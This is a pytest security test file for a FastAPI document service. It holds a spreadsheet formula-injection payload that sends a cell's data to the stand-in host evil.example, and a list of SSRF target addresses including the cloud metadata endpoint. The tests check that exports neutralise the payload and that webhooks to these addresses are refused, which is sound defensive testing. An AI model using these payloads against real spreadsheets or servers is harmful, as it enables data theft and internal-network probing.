"""The API under hostile requests (issue 11): refusals from the headers before any body is read,
bounded parameters answered 4xx JSON, no exception text, no live formula in exports, safe webhooks,
security headers and an HttpOnly session cookie on the web UI."""
from __future__ import annotations

import io
import re
import socket
import time

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from reliability_helpers import ADMIN, serving
from service.api.app import create_app
from service.api.exports import to_csv, to_xlsx

FORMULAS = ['=HYPERLINK("http://evil.example/?"&D3, "Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1"]


def _raw(url: str, head: str, body: bytes = b"", wait: float = 10) -> tuple[bytes, float]:
    """Send a request head (and `body`) on a socket; read the answer without sending more."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=wait) as sock:
        began = time.monotonic()
        sock.sendall(head.encode("latin-1") + b"\r\n\r\n" + body)
        answer = b""
        while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        return answer, time.monotonic() - began


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_key_and_size_are_checked_before_the_body(settings):
    gig = 1024**3
    with serving(settings) as url:
        head = ("POST /v1/documents HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                f"Content-Length: {gig}")
        answer, _ = _raw(url, head)                                     # no key, 1 GB announced, 0 bytes sent
        assert answer.startswith(b"HTTP/1.1 401") and b'"unauthorized"' in answer
        answer, _ = _raw(url, head + "\r\nX-API-Key: wrong-key")
        assert answer.startswith(b"HTTP/1.1 401")
        answer, _ = _raw(url, head + f"\r\nX-API-Key: {ADMIN}")
        assert answer.startswith(b"HTTP/1.1 413") and b'"request_too_large"' in answer
        chunked = ("POST /v1/documents HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                   f"Transfer-Encoding: chunked\r\nX-API-Key: {ADMIN}")
        form = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\n'
        parts = [form] + [b"x" * (256 * 1024)] * 8                                  # 2 MB, cap 1 MB
        body = b"".join(b"%x\r\n" % len(part) + part + b"\r\n" for part in parts)
        answer, _ = _raw(url, chunked, body)
        assert answer.startswith(b"HTTP/1.1 413") and b'"request_too_large"' in answer
        login = f"POST /ui/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {gig}"
        answer, _ = _raw(url, login)                                   # outside /v1: the 1 MB JSON cap
        assert answer.startswith(b"HTTP/1.1 413")
    files = settings.data_dir / "files"
    assert not [p for p in files.rglob("*") if p.is_file()]            # nothing was stored


def test_role_is_checked_before_the_upload_is_read(api):
    reader = api.key("reader")
    response = api.post("/v1/documents", headers=reader, files={"file": ("a.txt", b"1. So Tai chinh.")})
    assert response.status_code == 403 and response.json()["error"]["code"] == "forbidden"
    assert not [p for p in (api.settings.data_dir / "files").rglob("*") if p.is_file()]


BAD_QUERIES = [("q", " ".join(["ke"] * 1000)), ("q", "k" * 60_000), ("q", "ke\x00hoach"), ("year", str(2**63)),
               ("offset", str(2**63)), ("limit", "-1"), ("limit", str(2**64)), ("owner", "x" * 5000),
               ("deadline_to", "99999-01-01")]


@pytest.mark.parametrize("name,value", BAD_QUERIES, ids=[f"{n}-{len(v)}" for n, v in BAD_QUERIES])
def test_search_and_paging_answer_4xx_json(api, name, value):
    for path in ("/v1/search", "/v1/search/export"):
        response = api.get(path, params={name: value})
        assert 400 <= response.status_code < 500, (path, response.status_code, response.text[:200])
        assert response.json()["error"]["code"] in ("invalid_request", "request_too_large")
    if name in ("limit", "offset"):
        for path in ("/v1/documents", "/v1/audit"):
            response = api.get(path, params={name: value})
            assert response.status_code == 422 and response.json()["error"]["code"] == "invalid_request"
    assert api.get("/v1/documents/abc%00def").status_code == 400


def test_unexpected_errors_are_json_without_their_text(api, settings, monkeypatch):
    from service.api.routes import search as search_route
    from service.jobs import handlers

    def boom(*_a, **_kw):
        raise RuntimeError("secret internal detail /srv/db.sqlite")

    monkeypatch.setattr(search_route, "search_documents", boom)
    monkeypatch.setattr(handlers, "check_draft", boom)
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        response = client.get("/v1/search", params={"q": "ke hoach"}, headers={"X-API-Key": ADMIN})
        assert response.status_code == 500 and response.headers["content-type"] == "application/json"
        assert response.json()["error"]["code"] == "internal_error" and "secret" not in response.text
        draft = client.post("/v1/check-draft", headers={"X-API-Key": ADMIN},
                            files={"file": ("d.txt", "KẾ HOẠCH\n1. Sở Y tế chủ trì.".encode())})
        assert draft.status_code == 500 and draft.json()["error"]["code"] == "internal_error"
        assert "secret" not in draft.text and "RuntimeError" not in draft.text


def test_exports_hold_no_live_formula():
    rows = [{"document_number": "12/KH-UBND", "task_id": f"t{k}", "text": text, "lead": "@Sở Tài chính",
             "vague_score": 0.5} for k, text in enumerate(FORMULAS)]
    cells = [line.split(",", 3)[3] for line in to_csv(rows).decode("utf-8-sig").splitlines()[1:] if line]
    assert all(c.lstrip('"').startswith("'") for c in cells)
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)             # no formula cell at all
    assert {c.value for c in texts} >= set(FORMULAS)                    # the text itself is kept
    assert all(c.quotePrefix for c in texts if c.value.startswith(("=", "+", "-", "@", "\t")))


def test_exports_of_a_stored_document(api):
    text = "KẾ HOẠCH\nTriển khai\n1. =HYPERLINK(\"http://evil.example/?\"&D3, \"Bấm\") Sở Tài chính chủ trì.\n"
    doc_id = api.upload("formula.txt", text.encode("utf-8"))
    csv = api.get(f"/v1/documents/{doc_id}/export", params={"format": "csv"}).content.decode("utf-8-sig")
    assert "HYPERLINK" in csv and not re.search(r'(^|,)"?=HYPERLINK', csv, re.M)
    xlsx = api.get(f"/v1/documents/{doc_id}/export", params={"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


UNSAFE = ["http://127.0.0.1:8000/hook", "http://[::1]/hook", "http://10.0.0.1/hook", "http://169.254.169.254/latest",
          "http://2130706433/hook", "http://localhost/hook", "http://192.168.1.5/", "http://[::ffff:10.0.0.1]/",
          "http://0.0.0.0/", "http://100.64.0.1/", "http://224.0.0.1/"]


@pytest.mark.parametrize("url", UNSAFE)
def test_webhooks_to_private_addresses_are_refused(api, settings, url):
    with TestClient(create_app(settings.model_copy(update={"webhook_allow": ""}))) as client:
        response = client.post("/v1/webhooks", headers={"X-API-Key": ADMIN},
                               json={"url": url, "secret": "s3cret-value"})
        assert response.status_code == 422 and response.json()["error"]["code"] == "unsafe_webhook_url"
        assert client.post("/v1/webhooks", headers={"X-API-Key": ADMIN},
                           json={"url": "ftp://example.com/x", "secret": "s3cret-value"}).status_code == 422


def test_allow_list_admits_on_premise_receivers(api, settings):
    allowed = settings.model_copy(update={"webhook_allow": "10.0.0.0/8, localhost"})
    with TestClient(create_app(allowed)) as client:
        post = lambda url: client.post("/v1/webhooks", headers={"X-API-Key": ADMIN},  # noqa: E731
                                       json={"url": url, "secret": "s3cret-value"})
        assert post("http://10.1.2.3/hook").status_code == 201
        assert post("http://localhost:9/hook").status_code == 201
        assert post("http://192.168.1.5/hook").status_code == 422


def test_ui_headers_and_session_cookie(api):
    client = api.client
    page = client.get("/ui")
    policy = page.headers["content-security-policy"]
    script = re.search(r"script-src ([^;]*)", policy).group(1)
    assert "'unsafe-inline'" not in script and "frame-ancestors 'none'" in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page.text)      # no inline script
    assert client.get("/v1/me", headers={"X-API-Key": ADMIN}).headers["x-content-type-options"] == "nosniff"
    refused = client.post("/ui/session", json={"key": ADMIN})
    assert refused.status_code == 403                                      # not from the UI's script
    assert client.post("/ui/session", json={"key": "wrong"}, headers={"X-Rasoat-UI": "1"}).status_code == 401
    login = client.post("/ui/session", json={"key": ADMIN}, headers={"X-Rasoat-UI": "1"})
    cookie = login.headers["set-cookie"]
    assert login.status_code == 200 and "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    assert client.get("/v1/me").json()["role"] == "admin"                  # the cookie authenticates
    body = {"name": "x", "role": "reader"}
    assert client.post("/v1/keys", json=body).status_code == 403           # a change needs X-Rasoat-UI
    assert client.post("/v1/keys", json=body, headers={"X-Rasoat-UI": "1"}).status_code == 201
    client.delete("/ui/session")
    client.cookies.clear()
    assert client.get("/v1/me").status_code == 401
